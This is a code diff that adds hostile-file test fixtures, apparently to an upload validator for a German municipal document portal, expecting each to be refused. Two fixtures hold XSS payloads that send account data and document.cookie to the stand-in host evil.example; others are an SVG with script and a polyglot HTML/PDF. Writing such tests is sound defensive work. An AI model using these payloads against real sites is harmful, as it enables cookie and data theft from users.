@@ -227,6 +227,33 @@ def build_html(target: Path, scratch: Path) -> None:
     )
 
 
+def build_html_pdf_polyglot(target: Path, scratch: Path) -> None:
+    """An HTML page with a script that also carries a whole PDF within its first kilobyte, as
+    lenient PDF readers accept it: once taken for a PDF, it would be served back as itself."""
+    target.write_bytes(
+        b"<html><head><title>Jahresbericht</title></head><body>\n"
+        b"<script>fetch('/account').then(r => r.text()).then(t => new Image().src = '//evil.example/?' + t)</script>\n"
+        + text_pdf("Jahresbericht der Gemeinde") + b"</body></html>\n"
+    )
+
+
+def build_html_fragment(target: Path, scratch: Path) -> None:
+    """A bare script, as a browser would still render it as HTML."""
+    target.write_text("<script>document.location='https://evil.example/?'+document.cookie</script>\n",
+                      encoding="utf-8")
+
+
+def build_svg_with_script(target: Path, scratch: Path) -> None:
+    """An SVG image whose script runs when a browser opens it from our origin."""
+    target.write_text(SVG_WITH_DOCTYPE.replace("<rect", "<script>alert(document.domain)</script><rect"),
+                      encoding="utf-8")
+
+
+def build_pdf_after_junk(target: Path, scratch: Path) -> None:
+    """A real PDF behind 512 bytes of binary junk: readers would find its signature, we do not."""
+    target.write_bytes(bytes(range(256)) * 2 + text_pdf("Haushaltsplan der Gemeinde"))
+
+
 def build_elf_executable(target: Path, scratch: Path) -> None:
     """A real program of this machine (an ELF binary)."""
     program = shutil.which("true") or sys.executable
@@ -509,6 +536,14 @@ FILES: tuple[HostileFile, ...] = (
     HostileFile("legacy-doc", "protokoll.docx", build_legacy_doc, refused=True,
                 message="DOC (Word 97–2003)", http_status=415),
     HostileFile("html-as-pdf", "portal.pdf", build_html, refused=True, message="HTML", http_status=415),
+    HostileFile("html-pdf-polyglot", "jahresbericht.pdf", build_html_pdf_polyglot, refused=True,
+                message="Das Dateiformat HTML wird nicht unterstützt", http_status=415),
+    HostileFile("html-fragment-as-txt", "notiz.txt", build_html_fragment, refused=True,
+                message="Das Dateiformat HTML wird nicht unterstützt", http_status=415),
+    HostileFile("svg-with-script", "wappen.svg", build_svg_with_script, refused=True,
+                message="Das Dateiformat SVG (Bild) wird nicht unterstützt", http_status=415),
+    HostileFile("pdf-after-junk", "haushalt.pdf", build_pdf_after_junk, refused=True,
+                message="PDF-Kennung steht nicht am Anfang", http_status=415),
     HostileFile("elf-as-pdf", "programm.pdf", build_elf_executable, refused=True,
                 message="ELF (Programm)", http_status=415),
     HostileFile("exe-as-pdf", "setup.pdf", build_pe_executable, refused=True,
